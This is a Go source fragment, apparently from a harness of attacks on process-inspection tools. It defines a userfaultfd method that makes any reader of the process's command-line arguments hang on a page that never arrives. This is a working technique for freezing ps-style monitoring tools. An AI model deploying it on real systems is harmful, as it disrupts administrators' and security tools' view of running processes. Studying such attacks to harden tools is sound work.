package main

import (
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

// pageSize is how much is left to a user to answer for.
const pageSize = 4096

// padding is an argument that has a page of its own.
func padding() string {
	b := make([]byte, 3*pageSize)
	for i := range b {
		b[i] = 'x'
	}
	return string(b)
}

// userfaultfd has whoever reads this process's arguments wait for a page that never comes
// (userfaultfd(2)). It takes /dev/userfaultfd, since the system call is for faults of user mode.
func (a *attacker) userfaultfd() {
	if len(os.Args) < 5 || !a.first("userfaultfd") {
		return
	}
	const (
		ioctlNew      = 0xAA00     // USERFAULTFD_IOC_NEW
		ioctlAPI      = 0xC018AA3F // UFFDIO_API
		ioctlRegister = 0xC020AA00 // UFFDIO_REGISTER
		magic         = 0xAA
		missing       = 1
	)
	device, err := unix.Open("/dev/userfaultfd", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		a.lacks("/dev/userfaultfd", err)
		return
	}
	fd, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(device), ioctlNew, unix.O_CLOEXEC|unix.O_NONBLOCK)
	if !a.try(errnoOf(e)) {
		return
	}
	first := (uintptr(unsafe.Pointer(unsafe.StringData(os.Args[4]))) + pageSize - 1) &^ (pageSize - 1)
	api := [3]uint64{magic}
	a.try(call(unix.SYS_IOCTL, fd, ioctlAPI, uintptr(unsafe.Pointer(&api))))
	area := [4]uint64{uint64(first), pageSize, missing}
	a.try(call(unix.SYS_IOCTL, fd, ioctlRegister, uintptr(unsafe.Pointer(&area))))
	a.try(call(unix.SYS_MADVISE, first, pageSize, unix.MADV_DONTNEED))
}
